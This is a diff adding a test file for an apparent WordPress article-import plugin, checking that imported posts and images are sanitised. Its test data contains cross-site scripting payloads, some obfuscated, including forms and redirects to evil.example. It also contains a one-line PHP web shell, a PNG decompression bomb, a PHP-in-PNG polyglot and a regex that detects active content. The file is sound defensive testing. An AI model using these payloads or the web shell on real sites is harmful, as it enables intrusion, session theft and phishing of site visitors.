@@ -1,0 +1,222 @@
+import { beforeEach, describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { startFaultyGateway } from '../../support/faulty-gateway.ts';
+import type { FaultyGateway } from '../../support/faulty-gateway.ts';
+import { png } from '../../support/images.ts';
+import { useWordPress } from '../../support/wordpress.ts';
+import { importsOf, onlyItem, onlyPost } from './run-import.ts';
+import { runObserverOf } from './run-observer.ts';
+import { siteStateOf } from './site-state.ts';
+
+const wp = useWordPress();
+const imports = importsOf(wp);
+const { expectWarning, expectFailure, logged } = runObserverOf(wp);
+const { withPlugin, traces } = siteStateOf(wp);
+beforeEach(imports.reset);
+
+async function connected(): Promise<FaultyGateway> {
+  const gateway = await startFaultyGateway();
+  await imports.connect(gateway);
+  return gateway;
+}
+
+const content = async (id: number): Promise<string> =>
+  z.string().parse(await imports.inSite(`get_post( ${id} )->post_content`));
+
+/** The page of a post, as readers get it. */
+async function page(id: number): Promise<string> {
+  const url = z.string().parse(await imports.inSite(`get_permalink( ${id} )`));
+  return (await fetch(url)).text();
+}
+
+const paragraph = (text: string) => `<!-- wp:paragraph -->\n<p>${text}</p>\n<!-- /wp:paragraph -->`;
+
+/** What would run in a browser, whatever else is around it. */
+const ACTS = /<script|<[^>]*\son\w+\s*=|(?:java|vb)script\s*(?::|&colon;)|srcdoc/i;
+
+describe('a body with what acts in a browser is imported without it, and the log says so', () => {
+  it.each([
+    ['a script', '<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->', '<script>'],
+    ['a script of another server', '<script src="https://evil.example/x.js"></script>', '<script>'],
+    ['an event handler', '<p onclick="alert(1)">a</p>', 'onclick'],
+    ['a handler in capitals, without quotes', '<IMG SRC=x ONERROR=alert(1)>', 'onerror'],
+    ['an address that runs', '<p><a href="javascript:alert(1)">a</a></p>', 'javascript:'],
+    [
+      'one that is disguised',
+      '<p><a href="&#106;av&#x09;ascript&colon;alert(1)">a</a></p>',
+      'javascript:',
+    ],
+    [
+      'a page as data',
+      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+      'javascript:',
+    ],
+    [
+      'a page in an attribute',
+      '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
+      'srcdoc',
+    ],
+    ['a drawing that acts', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg>'],
+    ['a form', '<form action="https://evil.example"><input name="password"></form>', '<form>'],
+    ['another base', '<base href="https://evil.example/">', '<base>'],
+    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta>'],
+    ['an object', '<object data="https://evil.example/x.swf"></object>', '<object>'],
+    ['a tag without an end', 'a <img src=x onerror=alert(1) ', 'without an end'],
+    ['a comment without an end', '<p>a</p><!-- ', 'without an end'],
+  ])('%s', async (_name, active, finding) => {
+    const gateway = await connected();
+    const { uuid } = await gateway.put({}, `${paragraph('Kept')}\n\n${active}`);
+    const escaped = finding.replace(/[<>]/g, '\\$&');
+    const id = await expectWarning(uuid, new RegExp(`acts in a browser: .*${escaped}`), {
+      post_status: 'publish',
+    });
+    const stored = await content(id);
+    expect(stored).toContain(paragraph('Kept'));
+    expect(stored).not.toMatch(ACTS);
+    expect(await page(id)).toContain('<p class="wp-block-paragraph">Kept</p>');
+  });
+
+  it.each([
+    [
+      'an address',
+      '<!-- wp:button {"url":"javascript:alert(1)","text":"a"} -->\n<p>a</p>\n<!-- /wp:button -->',
+    ],
+    ['an escaped address', '<!-- wp:button {"url":"\\u006aavascript\\u003aalert(1)"} /-->'],
+    ['one with what browsers ignore', '<!-- wp:x {"link":" java\\tscript:alert(1)"} /-->'],
+    [
+      'one deep inside',
+      '<!-- wp:group {"a":[{"b":"vbscript:alert(1)"}]} -->\n<div><!-- wp:x {"href":"javascript:alert(1)"} /--></div>\n<!-- /wp:group -->',
+    ],
+  ])('in a block’s attributes: %s', async (_name, block) => {
+    const gateway = await connected();
+    const { uuid } = await gateway.put({}, `${paragraph('Kept')}\n\n${block}`);
+    const stored = await content(await expectWarning(uuid, /acts in a browser: javascript:/));
+    expect(stored).toContain(paragraph('Kept'));
+    expect(stored).not.toMatch(/alert/);
+  });
+
+  it.each([
+    ['-->', '{"x":"--><img src=x onerror=alert(1)>"}'],
+    ['--!>', '{"x":"--!><img src=x onerror=alert(1)>"}'],
+    ['an escaped tag', '{"x":"\\u003cimg src=x onerror=alert(1)\\u003e"}'],
+  ])('a block’s comment that breaks out: %s', async (_name, attributes) => {
+    const gateway = await connected();
+    const { uuid } = await gateway.put(
+      {},
+      `<!-- wp:paragraph ${attributes} -->\n<p>Kept</p>\n<!-- /wp:paragraph -->`,
+    );
+    const id = await expectWarning(uuid, /acts in a browser: onerror/, { post_status: 'publish' });
+    expect(await content(id)).not.toMatch(ACTS);
+    expect(await page(id)).not.toMatch(/onerror/);
+  });
+
+  it('the next version of it is merged as any other: no conflict, no change here', async () => {
+    const gateway = await connected();
+    const active = '<!-- wp:html -->\n<script>alert(1)</script>\n<!-- /wp:html -->';
+    const { uuid } = await gateway.put({}, `${paragraph('One')}\n\n${active}`);
+    const id = await expectWarning(uuid, '<script>');
+    await gateway.put({ uuid, html: '2' }, `${paragraph('Two')}\n\n${active}`);
+    const item = onlyItem(await imports.run({ uuids: [uuid] }));
+    expect(item).toMatchObject({ state: 'updated', message: '' });
+    expect(await content(id)).toContain('Two');
+    expect(await content(id)).not.toMatch(ACTS);
+  });
+
+  it('a dry run says what the run then does', async () => {
+    const gateway = await connected();
+    const { uuid } = await gateway.put({}, paragraph('a').replace('<p', '<p onclick="alert(1)"'));
+    const started = await wp.rest('/article-bridge/v1/imports', {
+      method: 'POST',
+      body: { uuids: [uuid], dry_run: true },
+    });
+    const { id } = z.looseObject({ id: z.int() }).parse(started.body);
+    const { warnings } = onlyItem(await imports.finish(id));
+    expect(warnings).toEqual([expect.stringContaining('onclick')]);
+    expect(onlyItem(await imports.run({ uuids: [uuid] })).warnings).toEqual(warnings);
+  });
+
+  it('what a text is about is no reason', async () => {
+    const gateway = await connected();
+    const body = [
+      paragraph('JavaScript: the good parts. onclick = what? data:text/html'),
+      '<!-- wp:x {"content":"JavaScript: the good parts"} /-->',
+      '<!-- wp:code -->\n<pre class="wp-block-code"><code>&lt;script&gt;alert(1)&lt;/script&gt; \\u003c &#91;</code></pre>\n<!-- /wp:code -->',
+      '<!-- wp:html -->\n<iframe src="https://www.youtube.com/embed/x" width="5" height="5" allowfullscreen></iframe>\n<!-- /wp:html -->',
+    ].join('\n\n');
+    const { uuid } = await gateway.put({}, body);
+    const item = onlyItem(await imports.run({ uuids: [uuid] }));
+    expect(item).toMatchObject({ state: 'created', warnings: [] });
+    expect(await content(item.post_id ?? 0)).toBe(body);
+  });
+
+  it('a site that trusts its service keeps it by a filter', async () => {
+    const gateway = await connected();
+    await withPlugin(`add_filter( 'article_bridge_keep_active_content', '__return_true' );`);
+    const body = '<!-- wp:html -->\n<script>go()</script>\n<!-- /wp:html -->';
+    const { uuid } = await gateway.put({}, body);
+    const id = onlyPost(await imports.run({ uuids: [uuid] }));
+    expect(await content(id)).toBe(body);
+  });
+
+  it('a site whose filter of HTML lets scripts pass fails the article', async () => {
+    const gateway = await connected();
+    await withPlugin(
+      `add_filter( 'wp_kses_allowed_html', fn( $tags ) => array( 'p' => array( 'onclick' => true ) ) + $tags );`,
+    );
+    const { uuid } = await gateway.put({}, paragraph('a').replace('<p', '<p onclick="alert(1)"'));
+    await expectFailure(gateway, uuid, /cannot be taken out: onclick/);
+  });
+});
+
+describe('images that are none', () => {
+  const bomb = png(1, 1, [1, 2, 3]);
+  bomb.writeUInt32BE(60_000, 16);
+  bomb.writeUInt32BE(60_000, 20);
+  const imageBlock = (src: string) =>
+    `<!-- wp:image -->\n<figure class="wp-block-image"><img src="${src}" alt=""/></figure>\n<!-- /wp:image -->`;
+
+  it.each<[name: string, bytes: Buffer, reason: RegExp]>([
+    ['a PHP file', Buffer.from('<?php system( $_GET["c"] );'), /text\/x-php/],
+    ['a PNG bomb', bomb, /60000 x 60000 pixels/],
+  ])(
+    '%s: a warning in the log, the address stays, no file is left',
+    async (_name, bytes, reason) => {
+      const gateway = await connected();
+      const src = gateway.image('x.php.png', bytes);
+      const { uuid } = await gateway.put(
+        { featured_image: { url: src, alt: '' } },
+        imageBlock(src),
+      );
+      const id = await expectWarning(uuid, reason);
+      expect(await content(id)).toBe(imageBlock(src));
+      expect(await traces()).toMatchObject({ attachments: 0, media: 0, files: 0 });
+    },
+  );
+
+  it('a PNG with PHP inside is stored as .png, which no server runs', async () => {
+    const gateway = await connected();
+    const bytes = Buffer.concat([png(3, 3, [1, 2, 3]), Buffer.from('<?php echo 1;')]);
+    const src = gateway.image('shell.php', bytes, 'application/x-php');
+    const { uuid } = await gateway.put({}, imageBlock(src));
+    onlyPost(await imports.run({ uuids: [uuid] }));
+    const files = await imports.inSite(
+      `array_map( 'basename', (array) glob( wp_upload_dir()['path'] . '/*' ) )`,
+    );
+    expect(JSON.stringify(files)).not.toMatch(/php/);
+  });
+
+  it('a caption, alt text and name that break out arrive as text', async () => {
+    const gateway = await connected();
+    const attack = `"--><script>alert(1)</script><!-- wp:html -->`;
+    const url = gateway.image('a.png', png(3, 3, [1, 2, 3]));
+    const { uuid } = await gateway.put({
+      featured_image: { url, alt: attack, caption: attack, credit: attack },
+      title: attack,
+      excerpt: attack,
+    });
+    const run = await imports.run({ uuids: [uuid], options: { post_status: 'publish' } });
+    expect(onlyItem(run)).toMatchObject({ state: 'created' });
+    expect(await page(onlyPost(run))).not.toContain('<script>alert(1)');
+    expect(await logged(run.id, uuid, 'error')).toBe('');
+  });
+});
